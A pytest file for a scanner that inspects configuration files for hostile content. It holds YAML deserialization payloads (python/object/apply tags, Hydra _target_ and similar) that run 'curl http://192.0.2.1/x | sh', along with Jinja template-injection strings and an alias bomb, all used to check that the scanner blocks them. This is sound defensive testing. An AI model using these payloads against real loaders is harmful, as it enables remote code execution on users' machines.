"""Configurations: YAML that builds objects, JSON that fetches code, templates inside both."""

import json

import pytest
import yaml

from scanner.finding import Verdict
from tests.formats.unwrapping import names
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.archives import tarred

COMMAND = "curl http://192.0.2.1/x | sh"
HOSTILE = {
    "apply": f"x: !!python/object/apply:os.system ['{COMMAND}']",
    "apply with keywords": f"!!python/object/apply:subprocess.call {{args: ['{COMMAND}'], kwds: {{shell: true}}}}",
    "new": f"- !!python/object/new:subprocess.Popen [['sh', '-c', '{COMMAND}']]",
    "a tag in its long form": f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{COMMAND}']",
    "a tag by its handle": f"%TAG !e! tag:yaml.org,2002:pyt\n---\n!e!hon/object/apply:os.system ['{COMMAND}']",
    "a tag in escapes": f"!!%70ython/object/apply:os.system ['{COMMAND}']",
    "exec": f"!!python/object/apply:builtins.exec [\"import os; os.system('{COMMAND}')\"]",
    "in front of a syntax error": f"!!python/object/apply:os.system ['{COMMAND}']\n---\n{{[",
    "behind an honest document": f"a: 1\n---\n!!python/object/apply:os.system ['{COMMAND}']",
    "hyperpyyaml": f"run: !apply:os.system ['{COMMAND}']",
    "hydra": f"module:\n  _target_: os.system\n  _args_: ['{COMMAND}']",
    "hydra by keyword": f"module: {{_target_: subprocess.check_output, args: '{COMMAND}', shell: true}}",
    "diffusion": f"model:\n  target: os.popen\n  params: {{cmd: '{COMMAND}'}}",
    "jsonargparse": f"m: {{class_path: subprocess.Popen, init_args: {{args: ['sh', '-c', '{COMMAND}']}}}}",
}
HONEST = {
    "hydra": """
model: {_target_: project.networks.Net, pretrained: https://weights.example/net.pt, hidden: 128}
optimizer: &o {_target_: torch.optim.AdamW, lr: 1.0e-3, betas: [0.9, 0.999]}
scheduler: {_target_: torch.optim.lr_scheduler.StepLR, _partial_: true, optimizer: *o}
""",
    "lightning": "trainer: {callbacks: [{class_path: lightning.pytorch.callbacks.ModelCheckpoint, init_args: {dirpath: out}}]}",
    "numbers": "!!python/tuple [1, 2, 0x1f, .inf, ~, yes]",
    "workflow": "on: [push]\njobs: {a: {steps: [{run: 'curl https://x.example | sh'}]}}",
    "itself": "&a [*a, {b: *a}]",
    "a target that is a word": "- target: production\n  params: {x: 1}",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_a_document_builds_is_judged(text):
    assert blocked_for(scan(text.encode(), "config.yaml")) == {"download-and-run"}


@pytest.mark.parametrize("shape", HOSTILE.keys() - {"diffusion"})  # whose words are those of any text
def test_a_document_needs_no_name(shape):
    assert blocked_for(scan(HOSTILE[shape].encode(), "config")) == {"download-and-run"}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_documents_are_quiet(text):
    assert scan(text.encode(), "config.yaml").verdict in (Verdict.CLEAN, Verdict.NOTE)


def test_an_archive_with_a_configuration():
    data = tarred({"model_config.yaml": HOSTILE["hydra"].encode(), "weights.bin": bytes(100)})
    assert blocked_for(scan(data, "speech.nemo")) == {"download-and-run"}


def test_aliases_that_multiply_are_read_once():
    text = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60))
    assert scan((text + "z: !!python/name:os.getcwd").encode(), "bomb.yaml").failure is None


def test_python_and_prose_are_not_yaml():
    assert names(b"import os\nprint('wow!!')\n") == ["python", "text"]
    assert "yaml" not in names(b"# Title\n\nSome *prose*!! With <b>tags</b> and target: x\n")


def test_what_pyyaml_writes_itself_is_read():
    written = yaml.dump({"a": (1, 2), "b": complex(1, 2), "f": json.dumps, "o": HOSTILE})
    assert scan(written.encode(), "dump.yaml").verdict in (Verdict.CLEAN, Verdict.NOTE)


@pytest.mark.parametrize(
    ("config", "verdict"),
    [
        ({"auto_map": {"AutoModel": "modeling.Net"}, "_attn_implementation": "eager"}, Verdict.CLEAN),
        ({"auto_map": {"AutoModel": "someone/else--modeling.Net"}}, Verdict.REVIEW),
        ({"auto_map": {"AutoTokenizer": ["someone/else--tok.Slow", None]}}, Verdict.REVIEW),
        ({"text_config": {"_attn_implementation_internal": "someone/kernel"}}, Verdict.BLOCKED),
        ({"_attn_implementation_internal": "sdpa"}, Verdict.CLEAN),
        ({"_class_name": "Pipeline", "custom_pipeline": "someone/pipeline"}, Verdict.REVIEW),
        ({"chat_template": "{{ messages[0].content }}"}, Verdict.CLEAN),
        ({"chat_template": [{"name": "a", "template": "{{ x.__init__.__globals__ }}"}]}, Verdict.BLOCKED),
        ({"chat_template": {"default": "{{ x|attr('__globals__') }}"}}, Verdict.BLOCKED),
        ({"hidden_size": 8}, Verdict.CLEAN),
    ],
)
def test_json_that_makes_a_library_act(config, verdict):
    assert scan(json.dumps(config).encode(), "config.json").verdict is verdict
    assert scan(json.dumps(config).encode("utf-16"), "config.json").verdict is verdict
